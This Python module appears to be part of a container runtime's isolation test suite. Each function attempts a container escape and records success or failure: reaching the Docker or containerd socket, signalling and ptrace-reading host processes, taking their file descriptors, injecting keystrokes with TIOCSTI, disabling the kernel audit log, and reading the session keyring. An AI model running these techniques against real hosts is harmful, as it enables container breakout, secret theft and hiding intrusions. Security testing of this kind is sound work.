"""The engine, its other containers, and processes of the host."""

import ctypes
import fcntl
import os
import socket
import struct

from pyminidocker.attacks.inside.kit import call, lost, read, secret, untried, why, won

_SOCKETS = (
    "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
    "/run/minidocker/default/minidocker.sock",
)  # fmt: skip


def abstract_socket() -> None:
    """Connect to a socket of the host that has a name and no file."""
    with socket.socket(socket.AF_UNIX) as asker:
        asker.connect("\0" + os.environ["ATTACK_ABSTRACT"])
    won("connected to an abstract socket of the host")


def engine_socket() -> None:
    """Connect to the engine: whoever can, may mount anything."""
    last = ""
    for path in (os.environ["ATTACK_ENGINE"], *_SOCKETS):
        try:
            with socket.socket(socket.AF_UNIX) as asker:
                asker.connect(path)
            won(f"connected to {path}")
        except OSError as error:
            last = f"{path}: {why(error)}"
    names = [line.split()[-1] for line in read("/proc/net/unix", 1 << 16).decode().splitlines()]
    if any("minidocker" in name for name in names):
        won("/proc/net/unix names the engine's socket")
    lost(last)


def host_loopback() -> None:
    """Connect to a service that listens on the host's 127.0.0.1 only."""
    port = int(os.environ["ATTACK_PORT"])
    addresses = ["127.0.0.1", "127.0.0.2", "0.0.0.0"]
    try:
        for line in read("/proc/net/route").decode().splitlines()[1:]:
            gateway = struct.pack("<I", int(line.split()[2], 16))
            addresses.append(socket.inet_ntoa(gateway))
    except OSError:
        pass
    last = ""
    for address in addresses:
        with socket.socket() as asker:
            asker.settimeout(0.5)
            try:
                asker.connect((address, port))
            except OSError as error:
                last = f"{address}:{port}: {why(error) if error.errno else 'no answer'}"
                continue
            won(f"connected to {address}:{port}")
    lost(last)


def engine_signals() -> None:
    """Send signals to the engine's processes by their numbers on the host."""
    pids = [int(pid) for pid in os.environ["ATTACK_PIDS"].split()]
    last = "their numbers are taken by processes of our own"
    for pid in pids:
        if os.path.exists(f"/proc/{pid}/status"):
            continue  # so large a number is one of our own
        try:
            os.kill(pid, 0)
        except OSError as error:
            last = f"kill {pid}: {why(error)}"
            continue
        won(f"process {pid} takes signals")
    lost(last)


def engine_memory() -> None:
    """Read the engine's memory: as a debugger, by /proc, and by process_vm_readv."""
    pid = int(os.environ["ATTACK_PIDS"].split()[0])
    evidence = []
    result, error = call("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
    if not error:
        won(f"attached to process {pid}")
    evidence.append(f"ptrace: {error}")
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    mine = theirs = ctypes.byref(vector)
    result, error = call("process_vm_readv", pid, mine, 1, theirs, 1, 0)
    if result > 0:
        won(f"read memory of process {pid}")
    evidence.append(f"process_vm_readv: {error}")
    try:
        read(f"/proc/{pid}/environ")
        won(f"read /proc/{pid}/environ")
    except OSError as refused:
        evidence.append(why(refused))
    lost("; ".join(evidence))


def engine_descriptors() -> None:
    """Take open files out of the engine's process."""
    pid = int(os.environ["ATTACK_PIDS"].split()[0])
    pidfd, error = call("pidfd_open", pid, 0)
    if error:
        lost(f"pidfd_open {pid}: {error}")
    for number in range(16):
        fd, error = call("pidfd_getfd", pidfd, number, 0)
        if not error:
            won(f"took descriptor {number} of process {pid}: {fd}")
    lost(f"pidfd_getfd: {error}")


def first_process() -> None:
    """Become the container's first process' debugger and look for the engine's memory in it."""
    for name in ("environ", "maps"):
        try:
            text = read(f"/proc/1/{name}", 1 << 16).decode(errors="replace")
        except OSError as error:
            lost(why(error))
        if "MINIDOCKER_" in text or "/api/boot.py" in text:
            won(f"/proc/1/{name} tells of the engine")
    lost("nothing of the engine is in /proc/1: execve replaced it")


def terminal_input() -> None:
    """Type into the terminal the engine was started from."""
    evidence = []
    for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/1/fd/0"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError as error:
            evidence.append(why(error))
            continue
        try:
            fcntl.ioctl(fd, 0x5412, b"#")  # TIOCSTI
        except OSError as error:
            evidence.append(f"TIOCSTI {path}: {why(error)}")
        else:
            won(f"typed into {path}")
        finally:
            os.close(fd)
    lost("; ".join(evidence))


def audit_records() -> None:
    """Write forged records into the machine's audit log, or switch it off."""
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9) as audit:
            body = struct.pack("10I", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0)  # AUDIT_SET, enabled = 0
            audit.send(struct.pack("IHHII", 16 + len(body), 1001, 5, 1, 0) + body)
            answer = audit.recv(4096)
    except OSError as error:
        lost(f"NETLINK_AUDIT: {why(error)}")
    (code,) = struct.unpack_from("i", answer, 16)
    if code == 0:
        won("AUDIT_SET was accepted")
    lost(f"AUDIT_SET: {os.strerror(-code)}")


def session_keys() -> None:
    """Search the keyring of the login that started the engine."""
    name = os.environ["ATTACK_ABSTRACT"].encode()
    found, error = call("keyctl", 10, -3, b"user", name, 0)  # KEYCTL_SEARCH, session keyring
    if error in ("ENOSYS", "EOPNOTSUPP"):
        untried("this kernel has no keys")
    if error:
        lost(f"keyctl: {error}")
    buffer = ctypes.create_string_buffer(64)
    length, error = call("keyctl", 11, found, buffer, 64)
    if length > 0 and buffer.raw[:length].decode() == secret():
        won("read a key of the host's session")
    lost(f"keyctl read: {error}")
